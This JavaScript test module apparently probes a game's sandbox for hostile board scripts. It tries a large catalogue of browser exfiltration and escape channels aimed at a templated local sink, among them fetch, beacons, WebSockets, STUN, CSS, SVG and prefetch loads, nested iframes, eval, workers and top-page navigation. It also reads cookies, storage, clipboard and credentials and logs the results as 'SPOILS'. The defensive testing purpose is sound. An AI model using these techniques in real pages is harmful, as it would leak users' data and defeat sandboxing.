// What a hostile board tries from its frame, or from one without a policy to see that the sink hears it. Each attempt tells what it
// got, beginning with GOT, or fails, or finds nothing. SINK, TCP and UDP are those of the sink.

const SINK = "@sink@";
const TCP = "http://127.0.0.1:@tcp@";
const STUN = "stun:@udp@";
const HEARD = (/** @type {string} */ name) => `${SINK}/heard/${name}`;
/** An attempt that has got nothing within this time has failed. */
const PATIENCE = 2500;
const HASTE = 700;

const later = (ms, value) => new Promise((resolve) => setTimeout(() => resolve(value), ms));
const got = (what) => `GOT ${what}`;
/** Whether there is something by this name. */
const is = (of, name) => of && of[name] !== undefined ? got(name) : "gone";

/** An element that loads something. */
const loads = (tag, properties) =>
  new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), properties);
    element.addEventListener("load", () => resolve(got("loaded")));
    element.addEventListener("error", () => reject(new Error("error")));
    (document.body ?? document.documentElement).append(element);
  });
const links = (rel, more = {}) => () => loads("link", { rel, href: HEARD(`link-${rel}`), ...more });
const opens = (socket, event = "open") =>
  new Promise((resolve, reject) => {
    socket.addEventListener(event, () => resolve(got(event)));
    socket.addEventListener("error", () => reject(new Error("error")));
  });
const svg = (inner) =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>${inner}</svg>`)}`;

async function stun(Peer = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection) {
  if (!Peer) return "gone";
  const peer = new Peer({ iceServers: [{ urls: STUN }] });
  peer.createDataChannel("hand");
  await peer.setLocalDescription(await peer.createOffer());
  await later(PATIENCE - 500);
  return got("a peer");
}

/** A child with a document of its own, which tells whether it has a peer. */
const child = (write) =>
  new Promise((resolve) => {
    const frame = document.createElement("iframe");
    addEventListener("message", ({ data, source }) => source === frame.contentWindow && resolve(got(`child: ${data}`)));
    write(frame);
    document.body.append(frame);
  });
const TELLS = "<script>parent.postMessage(typeof RTCPeerConnection, '*')</" + "script>";
const own = (name) => document.querySelector("script")?.textContent ?? name;

const ATTEMPTS = {
  // What the browser keeps, and what is the page's.
  "local storage": () => got(localStorage.length),
  "session storage": () => got(sessionStorage.length),
  "cookies": () => got((document.cookie = "a=b", document.cookie.length)),
  "cookie store": () => cookieStore.getAll().then((all) => got(all.length)),
  "indexed db": () =>
    new Promise((resolve, reject) => {
      const asked = indexedDB.open("x");
      asked.onsuccess = () => resolve(got("open"));
      asked.onerror = () => reject(asked.error);
    }),
  "caches": () => caches.keys().then((all) => got(all.length)),
  "files": () => navigator.storage.getDirectory().then(() => got("files")),
  "storage access": () => document.requestStorageAccess().then(() => got("access")),
  "locks": () => navigator.locks.query().then(() => got("locks")),
  "origin": () => self.origin === "null" ? "none" : got(self.origin),
  "document of the page": () => got(parent.document.title),
  "address of the page": () => got(parent.location.href),
  "storage of the page": () => got(parent.localStorage.length),
  "frame element": () => frameElement ? got("element") : "null",
  "opener": () => opener ? got("opener") : "null",
  "referrer": () => document.referrer ? got(document.referrer) : "none",
  "page in a name": () => window.name ? got(window.name) : "none",
  "ancestors": () => location.ancestorOrigins?.length && location.ancestorOrigins[0] === "null" ? got("opaque page") : "none",
  // The API, and anything else by a request.
  "api": () => fetch("/v1/players/me").then(({ status }) => got(status)),
  "api by its address": () =>
    fetch(`${new URL("/", location.href.replace(/^about.*/, SINK)).href}v1/games`).then(({ status }) => got(status)),
  "document again": () => fetch(location.href).then(({ status }) => got(status)),
  "fetch": () => fetch(HEARD("fetch"), { mode: "no-cors" }).then(() => got("sent")),
  "post": () => fetch(HEARD("post"), { mode: "no-cors", method: "POST", body: "hand" }).then(() => got("sent")),
  "keepalive": () => fetch(HEARD("keepalive"), { mode: "no-cors", keepalive: true }).then(() => got("sent")),
  "later": () => (fetchLater(HEARD("later"), { activateAfter: 0 }), "asked"),
  "xhr": () => {
    const asked = new XMLHttpRequest();
    asked.open("GET", HEARD("xhr"));
    asked.send();
    return opens(asked, "load");
  },
  "xhr that waits": () => {
    const asked = new XMLHttpRequest();
    asked.open("GET", HEARD("xhr-sync"), false);
    asked.send();
    return got(asked.status);
  },
  "socket": () => opens(new WebSocket(HEARD("socket").replace("http", "ws"))),
  "events": () => opens(new EventSource(HEARD("events"))),
  "beacon": () => navigator.sendBeacon(HEARD("beacon")) ? got("sent") : "refused",
  "report": () => (new ReportingObserver(() => {}).observe(), "observed"),
  "transport": () => is(globalThis, "WebTransport"),
  // Elements that load.
  "image": () => loads("img", { src: HEARD("image") }),
  "image set": () => loads("img", { srcset: `${HEARD("image-set")} 2x` }),
  "new image": () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = () => resolve(got("loaded"));
    image.onerror = () => reject(new Error("error"));
    image.src = HEARD("new-image");
  }),
  "image in a picture": () => loads("img", { src: svg(`<image href='${HEARD("svg-image")}' width='9' height='9'/>`) }).then(() => "drawn"),
  "style in a picture": () => loads("img", { src: svg(`<style>@import url(${HEARD("svg-style")});</style>`) }).then(() => "drawn"),
  "image of svg": () => {
    const drawing = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", HEARD("svg-element"));
    drawing.append(image);
    document.body.append(drawing);
    return "drawn";
  },
  "use of svg": () => {
    const drawing = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const use = document.createElementNS("http://www.w3.org/2000/svg", "use");
    use.setAttribute("href", `${HEARD("svg-use")}#x`);
    drawing.append(use);
    document.body.append(drawing);
    return "drawn";
  },
  "video": () => loads("video", { src: HEARD("video"), preload: "auto" }),
  "poster": () => loads("video", { poster: HEARD("poster") }),
  "audio": () => loads("audio", { src: HEARD("audio"), preload: "auto", autoplay: true }),
  "track": () => loads("track", { src: HEARD("track") }),
  "object": () => loads("object", { data: HEARD("object") }),
  "embed": () => loads("embed", { src: HEARD("embed") }),
  "frame": () => loads("iframe", { src: HEARD("frame") }).then(() => "loaded something"),
  "input image": () => loads("input", { type: "image", src: HEARD("input") }),
  // Styles.
  "sheet": links("stylesheet"),
  "imported sheet": async () => {
    const sheet = new CSSStyleSheet();
    await sheet.replace(`@import url(${HEARD("sheet-import")});`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return "adopted";
  },
  "background": async () => {
    const sheet = new CSSStyleSheet();
    await sheet.replace(`html { background-image: url(${HEARD("background")}); cursor: url(${HEARD("cursor")}), auto }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return "adopted";
  },
  "font": async () => {
    const sheet = new CSSStyleSheet();
    await sheet.replace(`@font-face { font-family: q; src: url(${HEARD("font")}) } html { font-family: q }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    return "adopted";
  },
  "font face": () => new FontFace("f", `url(${HEARD("font-face")})`).load().then(() => got("loaded")),
  "inline style": () => {
    document.head.append(Object.assign(document.createElement("style"), { textContent: `html { --hand: 1 }` }));
    return getComputedStyle(document.documentElement).getPropertyValue("--hand") ? got("applied") : "blocked";
  },
  // Names that are resolved early.
  "prefetch": links("prefetch"),
  "preload": links("preload", { as: "image" }),
  "module preload": links("modulepreload"),
  "prerender": links("prerender"),
  "icon": links("icon"),
  "manifest": links("manifest"),
  "speculation": () => {
    const rules = Object.assign(document.createElement("script"), { type: "speculationrules" });
    rules.textContent = JSON.stringify({ prefetch: [{ urls: [HEARD("speculation")], eagerness: "immediate" }] });
    document.head.append(rules);
    return "asked";
  },
  "dns": () => (document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: TCP })), "asked"),
  "preconnect": () => (document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: TCP })), "asked"),
  // Peers, in any realm.
  "peer": () => stun(),
  "peer of an empty child": () => child((frame) => queueMicrotask(async () => {
    await later(100);
    const Peer = frame.contentWindow?.RTCPeerConnection;
    if (Peer) await stun(Peer);
  })),
  "peer of a written child": () => child((frame) => frame.srcdoc = TELLS),
  "peer of a child by an attribute": () => child((frame) => frame.setAttribute("srcdoc", TELLS)),
  "peer of a child by a policy": () => child((frame) =>
    frame.srcdoc = trustedTypes.createPolicy("lit-html", { createHTML: (text) => text }).createHTML(TELLS)),
  "peer of a child by another policy": () => child((frame) =>
    frame.srcdoc = trustedTypes.createPolicy("croupier", { createHTML: (text) => text }).createHTML(TELLS)),
  "peer of a child with this script": () => child((frame) => frame.srcdoc = `<script>${own("")}</` + "script>"),
  "peer of a child by its address": () => child((frame) => frame.src = `data:text/html,${encodeURIComponent(TELLS)}`),
  "peer of a child by a blob": () => child((frame) => frame.src = URL.createObjectURL(new Blob([TELLS], { type: "text/html" }))),
  "peer of a child by a script": () => child((frame) => frame.src = `javascript:'${TELLS}'`),
  "markup": () => (document.body.insertAdjacentHTML("beforeend", `<img src=${HEARD("markup")}>`), "written"),
  "writing": () => (document.write(`<img src=${HEARD("writing")}>`), "written"),
  "script in markup": () => {
    document.body.append(document.createRange().createContextualFragment("<script>globalThis.parsed = 1</" + "script>"));
    return is(globalThis, "parsed");
  },
  // Code.
  "import": () => import(/* webpackIgnore */ `${HEARD("import")}`).then(() => got("ran")),
  "script": () => loads("script", { src: HEARD("script") }),
  "inline script": () => {
    document.head.append(Object.assign(document.createElement("script"), { text: "globalThis.ran = 1" }));
    return is(globalThis, "ran");
  },
  "eval": () => got((0, eval)("1 + 1")),
  "function": () => got(new Function("return 1")()),
  "timer of a text": () => (setTimeout("globalThis.timed = 1"), later(100).then(() => is(globalThis, "timed"))),
  "wasm": () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => got("compiled")),
  "worker": () => opens(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message"),
  "shared worker": () => is(globalThis, "SharedWorker"),
  "service worker": () => navigator.serviceWorker.register("/sw.js").then(() => got("registered")),
  "worklet": () => CSS.paintWorklet.addModule("data:text/javascript,1").then(() => got("added")),
  "sound worklet": () => is(globalThis, "AudioContext"),
  // What a player would notice.
  "window": () => open(HEARD("window")) ? got("window") : "null",
  "download": () => (clicked({ href: `data:,x`, download: "x.exe" }), "clicked"),
  "link with a ping": () => (clicked({ href: HEARD("blank"), target: "_blank", ping: HEARD("ping") }), "clicked"),
  "dialogs": () => [is(globalThis, "alert"), is(globalThis, "confirm"), is(globalThis, "prompt")].find((each) => each !== "gone") ?? "gone",
  "print": () => is(globalThis, "print"),
  "clipboard": () => navigator.clipboard.writeText("hand").then(() => got("written")),
  "clipboard read": () => navigator.clipboard.readText().then(got),
  "copying": () => document.execCommand("copy") ? got("copied") : "refused",
  "fullscreen": () => document.documentElement.requestFullscreen().then(() => got("full")),
  "pointer lock": () => Promise.resolve(document.documentElement.requestPointerLock()).then(() => document.pointerLockElement ? got("locked") : "refused"),
  "vibration": () => navigator.vibrate(9) ? got("vibrates") : "refused",
  "notification": () => is(globalThis, "Notification"),
  "position": () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve(got("position")), reject)),
  "camera": () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => got("camera")),
  "microphone": () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => got("microphone")),
  "screen": () => navigator.mediaDevices.getDisplayMedia().then(() => got("screen")),
  "speech": () => is(globalThis, "speechSynthesis"),
  "usb": () => navigator.usb.getDevices().then((all) => got(all.length)),
  "gamepads": () => (navigator.getGamepads(), got("gamepads")),
  "wake lock": () => navigator.wakeLock.request().then(() => got("awake")),
  "credentials": () => navigator.credentials.get({ password: true }).then((found) => found ? got("credentials") : "null"),
  "payment": () => is(globalThis, "PaymentRequest"),
  "sharing": () => navigator.share({ text: "hand" }).then(() => got("shared")),
  "history": () => (history.pushState(0, "", "#x"), got("an entry")),
  "back": () => is(history, "back"),
  "forward": () => is(history, "forward"),
  "another entry": () => is(history, "go"),
  "navigation": () => is(globalThis, "navigation"),
  "document opened anew": () => is(document, "open"), // without the listeners of the guard
  "drag": () => {
    const { preventDefault } = Event.prototype;
    Event.prototype.preventDefault = () => {};
    const goes = document.documentElement.dispatchEvent(new DragEvent("dragstart", { bubbles: true, cancelable: true }));
    Event.prototype.preventDefault = preventDefault;
    return goes ? got("a drag") : "stopped";
  },
  "channel": () => new Promise((resolve) => {
    const channel = new BroadcastChannel("croupier");
    channel.onmessage = ({ data }) => resolve(got(data));
    channel.postMessage("x");
  }),
};

/** What ends this document, if it works: last, one after the other, and of those that end it surely only "@end@". */
const LAST = {
  "form": () => sent({ action: HEARD("form"), method: "post" }),
  "form of the page": () => sent({ action: HEARD("form-top"), target: "_top" }),
  "page": () => (top.location.href = HEARD("page"), got("set")),
  "link of the page": () => clicked({ href: HEARD("link-top"), target: "_top" }),
  "refresh": () => (document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${HEARD("refresh")}` })), "asked"),
  "itself": () => (location.href = HEARD("itself"), "set"),
};

function clicked(properties) {
  const link = Object.assign(document.createElement("a"), properties);
  document.body.append(link);
  link.click();
  return "clicked";
}

function sent(properties) {
  const form = Object.assign(document.createElement("form"), properties);
  document.body.append(form);
  form.submit();
  return "sent";
}

const tried = (attempt) =>
  Promise.race([Promise.resolve().then(attempt), later(PATIENCE, "nothing")]).then(String, (error) => `failed: ${error}`);

/** Try all of it, and tell what came of it, by name. */
export async function attack() {
  const told = {};
  await Promise.all(Object.entries(ATTEMPTS).map(async ([name, attempt]) => told[name] = await tried(attempt)));
  console.log(`SPOILS ${JSON.stringify(told)}`);
  for (const [name, attempt] of Object.entries(LAST)) {
    if (["refresh", "itself"].includes(name)) continue;
    await tried(attempt);
    await later(HASTE);
  }
  console.log("OVER");
  LAST["@end@"]();
}
